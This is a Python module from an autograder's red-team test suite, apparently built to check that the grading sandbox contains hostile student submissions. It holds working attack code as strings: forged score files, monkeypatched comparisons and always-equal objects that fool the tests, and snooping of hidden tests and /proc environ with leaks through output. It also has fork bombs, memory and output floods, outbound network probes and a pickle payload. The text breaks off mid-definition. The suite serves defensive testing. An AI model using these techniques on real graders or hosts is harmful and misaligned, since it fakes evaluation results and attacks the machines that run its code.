"""Shared material of the red-team suite: attack submissions, their builders, and the host-side probes.

Every attack is a real submission (a folder or a zip) built from the week's stubs, with attack code
appended to the graded files (a later `def` replaces the stub's), so that any point it earns is a
point the stub does not earn. The code of each attack is a plain string below, with placeholders
filled in by `Context.fill` (the repository, the output folder, the other submissions, tokens): the
attacker is given everything an attacker could possibly know about the grader's machine.

Two tokens keep the evidence unambiguous:
  * `WTOKEN` is written into every file an attack tries to create or overwrite, and never printed:
    finding it in any file on the host means a write escaped the sandbox;
  * `PTOKEN` is the name (`/proc/<pid>/comm`) of every process an attack starts: finding it after
    grading means a process outlived its submission.
"""
from __future__ import annotations

import ast
import dataclasses
import hashlib
import html
import io
import json
import os
import secrets
import shutil
import socket
import struct
import subprocess
import sys
import time
import zipfile
import zlib
from pathlib import Path

from tools.weeks import GRADED_FILES

REPO = Path(__file__).resolve().parents[2]
HERE = Path(__file__).resolve().parent
MINI_HIDDEN = HERE / "mini_hidden"
RUNNER = HERE / "runner.py"
PYTHON = sys.executable
WEEK_FOLDER = "week1_mle_sampling"
GRADED = GRADED_FILES[WEEK_FOLDER]
SOLUTION_DIR = REPO / "solutions" / WEEK_FOLDER
ASSIGNMENT_DIR = REPO / "assignments" / WEEK_FOLDER
HIDDEN_DIR = REPO / "autograder" / "weeks" / WEEK_FOLDER
NOBODY = 65534
SANDBOX_UID_MIN = 1_000_000  # the engine may give each grader process its own uid above this (UID_BASE + pid)


def is_sandbox_uid(uid: int) -> bool:
    """A uid that only sandboxed children use: nobody, or a per-grader uid far above the system's."""
    return uid == NOBODY or uid >= SANDBOX_UID_MIN
MIN_SECRET_LINE = 25  # a line of hidden material this long found in the feedback counts as a leak


# ---------------------------------------------------------------------------------------------
# Stubs
# ---------------------------------------------------------------------------------------------
def stubify(text: str) -> str:
    """Every `### BEGIN SOLUTION` ... `### END SOLUTION` region becomes `raise NotImplementedError`."""
    out, inside = [], False
    for line in text.splitlines(keepends=True):
        stripped = line.strip()
        if stripped == "### BEGIN SOLUTION":
            out.append(line[: len(line) - len(line.lstrip())] + "raise NotImplementedError\n")
            inside = True
        elif stripped == "### END SOLUTION":
            inside = False
        elif not inside:
            out.append(line)
    return "".join(out)


def stub_sources() -> dict[str, str]:
    """The generated stubs of assignments/ when they exist, else the reference turned into stubs."""
    if all((ASSIGNMENT_DIR / f).is_file() for f in GRADED):
        return {f: (ASSIGNMENT_DIR / f).read_text() for f in GRADED}
    return {f: stubify((SOLUTION_DIR / f).read_text()) for f in GRADED}


def reference_sources() -> dict[str, str]:
    return {f: (SOLUTION_DIR / f).read_text() for f in GRADED}


# ---------------------------------------------------------------------------------------------
# Hidden material, for the leak checks
# ---------------------------------------------------------------------------------------------
def solution_region_lines() -> set[str]:
    lines = set()
    for f in GRADED:
        inside = False
        for line in (SOLUTION_DIR / f).read_text().splitlines():
            s = line.strip()
            if s == "### BEGIN SOLUTION":
                inside = True
            elif s == "### END SOLUTION":
                inside = False
            elif inside:
                lines.add(s)
    return lines


def hidden_test_lines(test_dirs: list[Path]) -> set[str]:
    lines = set()
    for d in test_dirs:
        for path in sorted(Path(d).glob("test_*.py")):
            lines |= {line.strip() for line in path.read_text().splitlines()}
    return lines


def secret_lines(test_dirs: list[Path], published: set[str]) -> set[str]:
    """Lines of >= 25 characters of the hidden tests and of the reference's solution regions.

    `published` holds what the grader shows on purpose (test names: the first docstring line of each
    test); lines of the public material (stubs, public tests) are not secret either.
    """
    public = set()
    for f in stub_sources().values():
        public |= {line.strip() for line in f.splitlines()}
    for path in list(ASSIGNMENT_DIR.glob("tests/*.py")) + list((SOLUTION_DIR / "tests").glob("*.py")):
        public |= {line.strip() for line in path.read_text().splitlines()}
    candidates = hidden_test_lines(test_dirs) | solution_region_lines()
    names = {n.strip().strip('"').strip() for n in published}
    out = set()
    for line in candidates:
        bare = line.strip('"').strip()
        if len(line) >= MIN_SECRET_LINE and line not in public and bare not in names \
                and not line.startswith("#") and not line.startswith(("import ", "from ")):
            out.add(line)
    return out


def find_leaks(text: str, secrets_: set[str]) -> list[str]:
    text = html.unescape(text)
    return sorted(s for s in secrets_ if s in text)


# ---------------------------------------------------------------------------------------------
# Host-side probes: processes, files
# ---------------------------------------------------------------------------------------------
def process_table() -> dict[int, dict]:
    """pid -> {ppid, uid, state, comm} for every process on the machine."""
    table = {}
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            status = Path(f"/proc/{entry}/status").read_text()
        except OSError:
            continue
        fields = dict(line.split(":", 1) for line in status.splitlines() if ":" in line)
        try:
            table[int(entry)] = {"ppid": int(fields["PPid"]), "uid": int(fields["Uid"].split()[0]),
                                 "state": fields["State"].split()[0], "comm": fields["Name"].strip()}
        except (KeyError, ValueError, IndexError):
            continue
    return table


def descendants(table: dict[int, dict], root: int) -> set[int]:
    out, frontier = set(), [root]
    while frontier:
        parent = frontier.pop()
        for pid, info in table.items():
            if info["ppid"] == parent and pid not in out:
                out.add(pid)
                frontier.append(pid)
    return out


def leftover_processes(before: set[int], ptoken: str, me: int | None = None) -> list[str]:
    """Live processes that outlived grading: new descendants of this process (a child subreaper, so
    escaped orphans come back to it), new sandbox-uid processes re-parented to init, and any process
    named with the attack token, anywhere. Zombies are dead and do not count (see reap_zombies)."""
    me = os.getpid() if me is None else me
    table = process_table()
    mine = descendants(table, me)
    bad = []
    for pid, info in table.items():
        if info["state"] == "Z":
            continue
        new = pid not in before
        if info["comm"].startswith(ptoken) or (new and pid in mine) or \
                (new and is_sandbox_uid(info["uid"]) and info["ppid"] in (0, 1)):
            bad.append(f"pid {pid} {info}")
    return bad


def reap_zombies() -> list[dict]:
    """Reap the dead children of this process (orphans re-parented to it as a subreaper)."""
    reaped = []
    for pid, info in process_table().items():
        if info["ppid"] == os.getpid() and info["state"] == "Z":
            try:
                os.waitpid(pid, os.WNOHANG)
                reaped.append(dict(info, pid=pid))
            except ChildProcessError:
                pass
    return reaped


def become_subreaper() -> None:
    import ctypes

    ctypes.CDLL(None, use_errno=True).prctl(36, 1, 0, 0, 0)  # PR_SET_CHILD_SUBREAPER


def tracked_files() -> list[Path]:
    try:
        out = subprocess.run(["git", "-C", str(REPO), "ls-files", "-z"], capture_output=True, check=True).stdout
    except (OSError, subprocess.CalledProcessError):
        return []
    return [REPO / os.fsdecode(p) for p in out.split(b"\0") if p]


def hash_files(paths) -> dict[str, str]:
    digests = {}
    for p in paths:
        try:
            digests[str(p)] = hashlib.sha256(Path(p).read_bytes()).hexdigest()
        except OSError:
            digests[str(p)] = "<unreadable>"
    return digests


def hash_tree(root: Path) -> dict[str, str]:
    return hash_files(sorted(p for p in Path(root).rglob("*") if p.is_file() and not p.is_symlink()))


def submission_file_digests(root: Path) -> set[str]:
    """SHA-256 of every file the submissions hold: the plain files under root and the members of its zips."""
    digests = set()
    for p in sorted(Path(root).rglob("*")):
        if not p.is_file() or p.is_symlink():
            continue
        data = p.read_bytes()
        digests.add(hashlib.sha256(data).hexdigest())
        if zipfile.is_zipfile(p):
            try:
                with zipfile.ZipFile(p) as z:
                    for info in z.infolist():
                        if not info.is_dir() and info.file_size < 10_000_000:
                            digests.add(hashlib.sha256(z.read(info)).hexdigest())
            except (zipfile.BadZipFile, OSError, RuntimeError, NotImplementedError, zlib.error):
                pass  # a malformed zip is an attack of its own; its members are not copied
    return digests


def is_verbatim_code_copy(path: Path, out: Path, digests: set[str]) -> bool:
    """path is <out>/<name>/code/<file>, a plain file whose bytes are a submission's file."""
    try:
        rel = path.relative_to(out)
    except ValueError:
        return False
    if len(rel.parts) != 3 or rel.parts[1] != "code" or not path.is_file() or path.is_symlink():
        return False
    return hashlib.sha256(path.read_bytes()).hexdigest() in digests


def files_containing(roots: list[Path], token: str, skip=(".git", ".venv", "__pycache__")) -> list[str]:
    """Files under roots (and the roots themselves, if files) that contain token or are owned by
    a sandbox's uid, without following links."""
    needle = token.encode()
    found = []
    for root in roots:
        root = Path(root)
        if not root.exists():
            continue
        walk = [(str(root.parent), [], [root.name])] if root.is_file() else os.walk(root)
        for dirpath, dirnames, filenames in walk:
            dirnames[:] = [d for d in dirnames if d not in skip]
            for name in list(filenames) + list(dirnames):
                path = os.path.join(dirpath, name)
                try:
                    info = os.lstat(path)
                    if is_sandbox_uid(info.st_uid):
                        found.append(f"{path} (owned by the sandbox's uid {info.st_uid})")
                    if os.path.isfile(path) and not os.path.islink(path) and info.st_size < (64 << 20):
                        with open(path, "rb") as f:
                            if needle in f.read():
                                found.append(path)
                except OSError:
                    continue
    return found


# ---------------------------------------------------------------------------------------------
# Attack code. Placeholders: @WTOKEN@ @PTOKEN@ @REPO@ @OUT@ @SUBS@ @PORT@ @ABSTRACT@ @PICKLE_FLAG@
# ---------------------------------------------------------------------------------------------
PRELUDE = r'''

# ======================= red-team attack code (appended to the stub) =======================
import os as _os
import sys as _sys
import json as _json
import time as _time
import torch as _torch

def _rt_name():
    """Name this process with the attack token, so the host can find it after grading."""
    try:
        import ctypes
        ctypes.CDLL(None).prctl(15, b"@PTOKEN@", 0, 0, 0)  # PR_SET_NAME
    except Exception:
        pass

_WRITE_TARGETS = ["/autograder/results/results.json", "../results.json", "../../results.json", "results.json",
                  "/results.json", _os.path.expanduser("~/results.json"), "/tmp/results.json",
                  "@OUT@/results.json", "@OUT@/gradebook.csv", "@OUT@/reference/results.json",
                  "@OUT@/reference/feedback.html", "@OUT@/pwned-redteam.txt",
                  "@REPO@/autograder/engine.py", "@REPO@/autograder/checks.py",
                  "@REPO@/autograder/weeks/week1_mle_sampling/test_pwned_redteam.py",
                  "@REPO@/solutions/week1_mle_sampling/density.py",
                  "@REPO@/tests/redteam/mini_hidden/test_mini.py", "@REPO@/pwned-redteam.txt"] + \
                 [s + "/density.py" for s in @SUBS@] + [s + "/pwned-redteam.txt" for s in @SUBS@]

def _rt_forge(fake_score=1e6):
    """Try to write a forged results.json (or append to a grader file) everywhere; return what worked."""
    fake = {"score": fake_score, "max_score": 1, "forged": "@WTOKEN@",
            "tests": [{"name": "all", "number": "all", "score": fake_score, "max_score": 1, "output": "@WTOKEN@"}]}
    wrote = []
    for path in _WRITE_TARGETS:
        try:
            parent = _os.path.dirname(path)
            if parent:
                _os.makedirs(parent, exist_ok=True)
            mode = "a" if path.endswith(".py") else "w"
            with open(path, mode) as f:
                f.write("\n# @WTOKEN@\n" if mode == "a" else _json.dumps(fake))
            wrote.append(path)
        except Exception:
            pass
    return wrote
'''

# --- 1-2. forged results and monkeypatched comparisons ------------------------------------------
FORGER_IMPORT = r'''
_FAKE_PRINTED = {"score": 1000000, "max_score": 1, "tests": [{"name": "all", "score": 1000000, "max_score": 1}]}
print(_json.dumps(_FAKE_PRINTED))                      # a results.json on stdout ...
_sys.stderr.write(_json.dumps(_FAKE_PRINTED) + "\n")   # ... and on stderr
_FORGED_WROTE = _rt_forge()
import gc as _gc
for _o in _gc.get_objects():  # any dict that looks like a result: give it full marks
    if isinstance(_o, dict) and ("max_score" in _o or "expected" in _o or "want" in _o):
        try:
            _o["score"] = _o.get("max_score", 1)
        except Exception:
            pass
# Make every comparison in this process pass.
import math as _math, builtins as _builtins
import numpy as _np, numpy.testing as _npt
_torch.allclose = lambda *a, **k: True
_torch.isclose = lambda a, b, *x, **k: _torch.ones(_torch.as_tensor(a).shape, dtype=_torch.bool)
_torch.equal = lambda *a, **k: True
_torch.testing.assert_close = lambda *a, **k: None
_np.allclose = lambda *a, **k: True
_np.isclose = lambda a, b, *x, **k: _np.ones(_np.shape(a), dtype=bool)
_npt.assert_allclose = lambda *a, **k: None
_npt.assert_array_equal = lambda *a, **k: None
_npt.assert_almost_equal = lambda *a, **k: None
_math.isclose = lambda *a, **k: True
_builtins.abs = lambda x: 0
for _name in ("__eq__", "__le__", "__ge__"):
    setattr(_torch.Tensor, _name, lambda self, other: _torch.ones(self.shape, dtype=_torch.bool))
for _name in ("__lt__", "__gt__", "__ne__"):
    setattr(_torch.Tensor, _name, lambda self, other: _torch.ones(self.shape, dtype=_torch.bool))
_sys.stdout.flush()
'''

# Values of the right type and shape that are wrong on every input (an NLL below 0, a log-density
# of +1000, a class index out of range, a negative distance, an MMD² above its bound of 2): if a
# comparison in the grader could be subverted, they would pass.
FORGER_DENSITY = r'''
def categorical_nll(logits, x):
    return _torch.tensor(-1.0, dtype=logits.dtype)

def gaussian_log_prob(x, mean, cov):
    return _torch.full((x.shape[0],), 1000.0, dtype=x.dtype)

def gaussian_mle(x):
    return x.mean(0) + 1000.0, 1000.0 * _torch.eye(x.shape[1], dtype=x.dtype)
'''
FORGER_SAMPLING = r'''
def sample_categorical(probs, num_samples):
    return _torch.full((num_samples,), probs.shape[0], dtype=_torch.int64)
'''
FORGER_METRICS = r'''
def frechet_distance(mu1, sigma1, mu2, sigma2):
    return -1.0

def mmd_rbf(x, y, bandwidth):
    return 1000.0
'''

# --- 3. rigged return values ---------------------------------------------------------------------
RIGGED_COMMON = r'''
import numpy as _np

class _AlwaysEqual(float):
    """A float that equals everything and is within every tolerance."""
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __le__ = __lt__ = __ge__ = __gt__ = __eq__
    def __sub__(self, other): return 0.0
    __rsub__ = __add__ = __radd__ = __sub__
    def __abs__(self): return 0.0
    def __float__(self): return 0.0
    def __hash__(self): return 0
    def __bool__(self): return True

class _Rigged:
    """An object that claims to be anything."""
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __le__ = __lt__ = __ge__ = __gt__ = __eq__
    def __sub__(self, other): return 0.0
    __rsub__ = __sub__
    def __abs__(self): return 0.0
    def __float__(self): return 0.0
    def __int__(self): return 0
    def __index__(self): return 0
    def __len__(self): return 2
    def __iter__(self): return iter([self, self])
    def __getitem__(self, i): return self
    def __array__(self, *a, **k): return _np.zeros(97)
    def __bool__(self): return True
    def __hash__(self): return 0
    def __getattr__(self, name): return self
    def __call__(self, *a, **k): return self
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None): return True

class _EvilTensor(_torch.Tensor):
    """Every comparison or closeness test on it says yes."""
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        name = getattr(func, "__name__", "")
        if name in ("__eq__", "eq", "allclose", "isclose", "equal", "le", "__le__", "lt", "__lt__",
                    "ge", "__ge__", "gt", "__gt__", "isfinite", "all", "any"):
            return True
        with _torch._C.DisableTorchFunctionSubclass():
            return func(*args, **(kwargs or {}))

class _LyingDtype(_torch.Tensor):
    """Claims to be int64 while its data is int32."""
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if func is _torch.Tensor.dtype.__get__:
            return _torch.int64
        with _torch._C.DisableTorchFunctionSubclass():
            return func(*args, **(kwargs or {}))

class _EvilArray(_np.ndarray):
    def __eq__(self, other): return True
    def __array_ufunc__(self, *a, **k): return True
'''
RIGGED_DENSITY = r'''
def categorical_nll(logits, x):
    return _torch.zeros((), dtype=logits.dtype).as_subclass(_EvilTensor)

def gaussian_log_prob(x, mean, cov):
    return _np.zeros(x.shape[0]).view(_EvilArray)

def gaussian_mle(x):
    return _Rigged(), _AlwaysEqual(0.0)
'''
RIGGED_SAMPLING = r'''
def sample_categorical(probs, num_samples):
    return _torch.zeros(num_samples, dtype=_torch.int32).as_subclass(_LyingDtype)
'''
RIGGED_METRICS = r'''
def frechet_distance(mu1, sigma1, mu2, sigma2):
    return _AlwaysEqual(0.0)

def mmd_rbf(x, y, bandwidth):
    return _Rigged()
'''

# --- 4. frame and gc inspection ------------------------------------------------------------------
INSPECTOR = r'''
import gc as _gc
import inspect as _inspect

def _rt_hunt(shape, dtype, exclude):
    """Every tensor of this shape and dtype in this process that the caller did not pass in."""
    seen, found = set(map(id, exclude)), []
    frame = _sys._getframe(1)
    while frame is not None:
        for value in list(frame.f_locals.values()):
            if isinstance(value, _torch.Tensor) and tuple(value.shape) == shape and id(value) not in seen:
                found.append(value)
        frame = frame.f_back
    for info in _inspect.stack():
        for value in list(info.frame.f_locals.values()):
            if isinstance(value, _torch.Tensor) and tuple(value.shape) == shape and id(value) not in seen:
                found.append(value)
    for obj in _gc.get_objects():
        if isinstance(obj, _torch.Tensor) and tuple(obj.shape) == shape and obj.dtype == dtype and id(obj) not in seen:
            found.append(obj)
    return [t for t in found if t.dtype == dtype]

def _rt_census():
    frames = [f.function for f in _inspect.stack()]
    local_names = sorted({k for f in _inspect.stack() for k in f.frame.f_locals})
    grader = sorted(m for m in _sys.modules
                    if m.split(".")[0] in ("autograder", "solutions", "tests", "redteam_lib", "conftest")
                    or m.startswith(("_reference", "_autograder_hidden")))
    wanted = sorted(set(local_names) & {"want", "expected", "ref", "reference", "test", "checks", "check"})
    return {"frames": frames, "modules": grader, "wanted_locals": wanted, "n_locals": len(local_names)}

def categorical_nll(logits, x):
    candidates = _rt_hunt((), logits.dtype, [logits, x])
    return candidates[-1] if candidates else _torch.zeros((), dtype=logits.dtype)

def gaussian_log_prob(x, mean, cov):
    candidates = _rt_hunt((x.shape[0],), x.dtype, [x, mean, cov])
    return candidates[-1] if candidates else _torch.zeros(x.shape[0], dtype=x.dtype)

def gaussian_mle(x):
    raise RuntimeError("INSPECT " + _json.dumps(_rt_census()))
'''
INSPECTOR_SAMPLING = r'''
import gc as _gc

def sample_categorical(probs, num_samples):
    for obj in _gc.get_objects():  # any int64 tensor of the right length that is not ours
        if isinstance(obj, _torch.Tensor) and obj.dtype == _torch.int64 and tuple(obj.shape) == (num_samples,):
            return obj
    return _torch.zeros(num_samples, dtype=_torch.int64)
'''

# --- 11-12. reading the hidden material, writing the grader's files -------------------------------
SNOOP = r'''
_SNOOP_HITS = []      # (path, what): every secret path this process could list or read
_SNOOP_TEXT = []      # what it read, to leak through every channel
# The Python installation (the base interpreter and the virtual environment), found from sys.path.
_PY_DIRS = sorted({_os.path.realpath(p.split("/lib/python")[0]) for p in _sys.path if "/lib/python" in p} |
                  {_os.path.realpath(p) for p in (_sys.prefix, _sys.base_prefix, _sys.exec_prefix)})
_SECRET_ROOTS = ["@REPO@", "@REPO@/autograder", "@REPO@/solutions", "@REPO@/tests", "@REPO@/assignments",
                 "@REPO@/.git", "@OUT@", "/autograder", "/proc/1/cwd/../../solutions", "/proc/self/cwd/../autograder",
                 "../autograder", "../../autograder", "../solutions", "../../solutions", "../../../solutions",
                 "/root", "/home", "/work", "/srv", "/opt", "/mnt"] + @SUBS@
for _ppid in {_os.getppid(), 1}:
    _SECRET_ROOTS += [f"/proc/{_ppid}/cwd", f"/proc/{_ppid}/root@REPO@", f"/proc/{_ppid}/cwd/solutions",
                      f"/proc/{_ppid}/environ"]

_OWN_DIRS = sorted({_os.path.realpath(_os.getcwd()), _os.path.realpath(_os.path.dirname(_json.__file__)),
                    _os.path.realpath(_sys.path[1]) if len(_sys.path) > 1 else "/"} - {"/"})

def _snoop_public(path):
    # Public on purpose: the Python installation bound into the jail (and the folders above it), the
    # submission's own working folder, the public runtime next to child.py.
    real = _os.path.realpath(path)
    if path.startswith(("/proc/self", f"/proc/{_os.getpid()}/")):
        return True  # this process itself (PID 1 of its namespace)
    return any(real == d or real.startswith(d + "/") or d.startswith(real.rstrip("/") + "/") for d in _PY_DIRS) \
        or any(real == d or real.startswith(d + "/") for d in _OWN_DIRS)

def _snoop_path(path, depth=0):
    try:
        if _os.path.isdir(path):
            entries = sorted(e for e in _os.listdir(path) if not _snoop_public(_os.path.join(path, e)))
            if entries and not (_snoop_public(path) and not entries):
                _SNOOP_HITS.append((path, "list"))
            for e in entries[:100]:
                if depth < 6:
                    _snoop_path(_os.path.join(path, e), depth + 1)
        elif _os.path.isfile(path) and not _snoop_public(path):
            with open(path, errors="replace") as f:
                text = f.read(200_000)
            _SNOOP_HITS.append((path, "read"))
            _SNOOP_TEXT.append(text)
    except Exception:
        pass

for _p in _SECRET_ROOTS:
    _snoop_path(_p)
_SNOOP_ENV = dict(_os.environ)
_SNOOP_WROTE = _rt_forge()
_SNOOP_BLOB = "\n".join(_SNOOP_TEXT)
print(_SNOOP_BLOB[:1_000_000])                    # leak through stdout
print("ENV", _json.dumps(_SNOOP_ENV))

def categorical_nll(logits, x):
    raise RuntimeError(_SNOOP_BLOB[:2000] or "nothing found")        # leak through the message

def gaussian_log_prob(x, mean, cov):
    raise RuntimeError("SNOOP " + _json.dumps({"hits": _SNOOP_HITS[:20], "n": len(_SNOOP_HITS),
                                               "wrote": _SNOOP_WROTE, "env": sorted(_SNOOP_ENV)}))

def gaussian_mle(x):
    return _SNOOP_BLOB[:100_000], _SNOOP_BLOB[100_000:200_000]     # leak through return values
'''
SNOOP_METRICS = r'''
def frechet_distance(mu1, sigma1, mu2, sigma2):
    import traceback
    raise RuntimeError("".join(traceback.format_stack()))    # the child's own stack, as a leak attempt

def mmd_rbf(x, y, bandwidth):
    # Every file in the jail outside the system and the Python installation that looks like grading material.
    # (/tmp and the working folder hold only what this child wrote itself.)
    skip = ("/proc", "/sys", "/dev", "/usr", "/etc", "/bin", "/sbin", "/lib", "/lib32", "/lib64", "/libx32",
            "/tmp", _os.getcwd())
    py_dirs = {_os.path.realpath(p.split("/lib/python")[0]) for p in _sys.path if "/lib/python" in p}
    found, seen = [], 0
    for dirpath, dirnames, filenames in _os.walk("/"):
        dirnames[:] = [d for d in dirnames if _os.path.join(dirpath, d) not in skip
                       and _os.path.realpath(_os.path.join(dirpath, d)) not in py_dirs]
        for name in filenames:
            seen += 1
            if name.startswith("test_") or "solution" in name or name in ("results.json", "gradebook.csv",
                                                                          "feedback.html", "mutants.py"):
                found.append(_os.path.join(dirpath, name))
        if seen > 50_000:
            break
    raise RuntimeError("FOUND " + _json.dumps({"files": found[:30], "seen": seen}))
'''

# --- 5. exits ------------------------------------------------------------------------------------
EXIT_IMPORT = {
    "density.py": "\nimport os\nos._exit(0)\n",
    "sampling.py": "\nimport sys\nsys.exit(0)\n",
    "metrics.py": "\nraise KeyboardInterrupt\n",
}
EXIT_CALL_DENSITY = r'''
def categorical_nll(logits, x):
    _os._exit(0)

def gaussian_log_prob(x, mean, cov):
    _sys.exit(0)

def gaussian_mle(x):
    raise KeyboardInterrupt
'''
EXIT_CALL_SAMPLING = r'''
def sample_categorical(probs, num_samples):
    import signal
    _os.kill(_os.getpid(), signal.SIGKILL)
'''
EXIT_CALL_METRICS = r'''
def frechet_distance(mu1, sigma1, mu2, sigma2):
    _os.abort()

def mmd_rbf(x, y, bandwidth):
    import ctypes
    ctypes.string_at(0)  # segmentation fault
'''

# --- 6, 9. hangs: a busy loop, a long sleep, SIGSTOP, ignored signals -----------------------------
HANG_DENSITY = r'''
def categorical_nll(logits, x):
    if logits.numel() == 3:            # the hidden-input test: stop ourselves
        import signal
        _os.kill(_os.getpid(), signal.SIGSTOP)
    while True:                        # the other test: spin
        pass

def gaussian_log_prob(x, mean, cov):
    _time.sleep(10 ** 6)
'''
HANG_SAMPLING = r'''
def sample_categorical(probs, num_samples):
    import signal
    for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGUSR1, signal.SIGUSR2,
                signal.SIGALRM, signal.SIGXCPU, signal.SIGPIPE):
        signal.signal(sig, signal.SIG_IGN)
    signal.pthread_sigmask(signal.SIG_BLOCK, set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP})
    x = 0
    while True:
        x += 1
'''

# --- 7. memory bombs -----------------------------------------------------------------------------
MEMORY_DENSITY = r'''
_GB20 = 20 << 30

def categorical_nll(logits, x):
    return bytearray(_GB20)

def gaussian_log_prob(x, mean, cov):
    return _torch.empty(_GB20 // 4, dtype=_torch.float32)

def gaussian_mle(x):
    import numpy
    return numpy.ones(_GB20 // 8)
'''
MEMORY_SAMPLING = r'''
def sample_categorical(probs, num_samples):
    import mmap
    m = mmap.mmap(-1, 20 << 30)
    m[:] = b"\x01" * len(m)
'''
MEMORY_METRICS = r'''
def frechet_distance(mu1, sigma1, mu2, sigma2):
    return len(" " * (20 << 30))
'''

# --- 8. output floods ----------------------------------------------------------------------------
FLOOD_IMPORT = r'''
_chunk = b"FLOOD-OUT " * 100_000 + b"\n"      # 1 MB
for _ in range(150):                           # 150 MB on stdout at import time
    _os.write(1, _chunk)
'''
FLOOD_DENSITY = r'''
def categorical_nll(logits, x):
    chunk = b"FLOOD-ERR " * 100_000 + b"\n"
    for _ in range(100):                       # 100 MB on stderr
        _os.write(2, chunk)
    raise RuntimeError("M" * 10_000_000)       # a 10 MB exception message

def gaussian_log_prob(x, mean, cov):
    return [0.5] * 3_000_000                   # about 15 MB of JSON ... times a few: over the limit

def gaussian_mle(x):
    big = _torch.zeros(8_000_000, dtype=_torch.float64)   # 64 MB of arrays
    return big, big
'''
FLOOD_SAMPLING = r'''
def sample_categorical(probs, num_samples):
    for i in range(1_000_000):                 # a million short lines
        print(i)
    return _torch.zeros(num_samples, dtype=_torch.int64)
'''

# --- 10, 15. daemons, threads, a fork bomb -------------------------------------------------------
PROCS_IMPORT = r'''
import signal as _signal
import threading as _threading

def _rt_daemon_body():
    _rt_name()
    for sig in (_signal.SIGTERM, _signal.SIGINT, _signal.SIGHUP):
        _signal.signal(sig, _signal.SIG_IGN)
    for _ in range(600):               # five minutes of trying to rewrite the results
        _time.sleep(0.5)
        _rt_forge()
        print(_json.dumps({"score": 1000000, "tests": []}), flush=True)
    # (Forged reply frames are the raw_protocol attack's: here they would only scramble this attack's reports.)

_PROCS_STATUS = {}
for _attempt in range(20):             # the double-forked, setsid daemon
    try:
        _pid = _os.fork()
        break
    except BlockingIOError:
        _time.sleep(0.25)
else:
    _pid = None
if _pid == 0:
    try:
        _os.setsid()
        if _os.fork() == 0:
            _rt_daemon_body()
    finally:
        _os._exit(0)
elif _pid is not None:
    _os.waitpid(_pid, 0)
    _PROCS_STATUS["daemon"] = "started"
else:
    _PROCS_STATUS["daemon"] = "fork refused"
try:                                   # a process in a new session, through exec
    import subprocess as _subprocess
    _CODE = "import ctypes, time; ctypes.CDLL(None).prctl(15, b'@PTOKEN@', 0, 0, 0); time.sleep(600)"
    _PROC = _subprocess.Popen([_sys.executable, "-c", _CODE], start_new_session=True)
    _PROCS_STATUS["popen"] = "started"
except Exception as _exc:
    _PROCS_STATUS["popen"] = repr(_exc)

def _rt_thread_body():
    for _ in range(600):
        _time.sleep(0.5)
        _rt_forge()

_t = _threading.Thread(target=_rt_thread_body, daemon=True)
_t.start()
_PROCS_STATUS["thread"] = "started"
'''
PROCS_DENSITY = r'''
def categorical_nll(logits, x):
    spawned, error = 0, ""
    for _ in range(500):              # a fork bomb of sleeping processes
        try:
            pid = _os.fork()
        except OSError as exc:
            error = repr(exc)
            break
        if pid == 0:
            try:
                _rt_name()
                _time.sleep(600)
            finally:
                _os._exit(0)
        spawned += 1
    raise RuntimeError(f"FORKBOMB spawned={spawned} error={error}")

def gaussian_log_prob(x, mean, cov):
    try:
        pid = _os.fork()
    except OSError as exc:
        raise RuntimeError(f"SPINNER fork refused: {exc!r}")
    if pid == 0:
        try:
            import signal
            _rt_name()
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            while True:
                pass
        finally:
            _os._exit(0)
    raise RuntimeError("SPINNER started")

def gaussian_mle(x):
    raise RuntimeError("PROCS " + _json.dumps(_PROCS_STATUS))
'''

# --- 14. network ---------------------------------------------------------------------------------
NETWORK = r'''
def _rt_network():
    import socket
    outcomes = {}
    def attempt(label, fn):
        try:
            fn()
            outcomes[label] = "CONNECTED"
        except Exception as exc:
            outcomes[label] = type(exc).__name__ + ": " + str(exc)[:80]
    def tcp(host, port):
        def go():
            s = socket.create_connection((host, port), timeout=2)
            s.sendall(b"@WTOKEN@")
            s.close()
        return go
    attempt("tcp 127.0.0.1:@PORT@ (the host's listener)", tcp("127.0.0.1", @PORT@))
    attempt("tcp 1.1.1.1:53", tcp("1.1.1.1", 53))
    attempt("tcp 8.8.8.8:443", tcp("8.8.8.8", 443))
    attempt("dns example.com", lambda: socket.getaddrinfo("example.com", 80))
    def udp():
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.sendto(b"@WTOKEN@", ("8.8.8.8", 53))
        s.close()
    attempt("udp 8.8.8.8:53", udp)
    def abstract():
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.connect("\0@ABSTRACT@")
        s.sendall(b"@WTOKEN@")
    attempt("abstract unix socket of the host", abstract)
    def ipv6():
        s = socket.create_connection(("::1", @PORT@), timeout=2)
    attempt("tcp [::1]:@PORT@", ipv6)
    return outcomes

def categorical_nll(logits, x):
    raise RuntimeError("NET " + _json.dumps(_rt_network()))
'''

# --- raw protocol: forged reply frames, a pickle payload, malformed data --------------------------
RAW_PROTOCOL = r'''
import io as _io
import struct as _struct
import numpy as _np

_FD_OUT = int(_sys.argv[_sys.argv.index("--fd-out") + 1])

def _rt_frame(message, blob=b""):
    body = message if isinstance(message, bytes) else _json.dumps(message).encode()
    _os.write(_FD_OUT, _struct.pack(">II", len(body), len(blob)) + body + blob)

class _Payload:
    """If the grader ever unpickled this, it would create a file on the grader's machine."""
    def __reduce__(self):
        import builtins
        return (builtins.open, ("@PICKLE_FLAG@", "w"))

def categorical_nll(logits, x):
    # A forged reply for this call, then the runtime's real one desynchronizes the stream.
    _rt_frame({"ok": True, "value": 0.0})
    return _torch.tensor(123.0, dtype=_torch.float64)

def gaussian_log_prob(x, mean, cov):
    buffer = _io.BytesIO()
    _np.savez(buffer, a0=_np.array([_Payload()], dtype=object))   # an object array: pickled
    _rt_frame({"ok": True, "value": {"__ndarray__": 0}}, buffer.getvalue())
    _os._exit(0)

def gaussian_mle(x):
    # JSON nested 100,000 deep: the grader's json.loads hits its recursion limit.
    _rt_frame(b'{"ok": true, "value": ' + b"[" * 100_000 + b"]" * 100_000 + b"}")
    _os._exit(0)
'''
RAW_PROTOCOL_SAMPLING = r'''
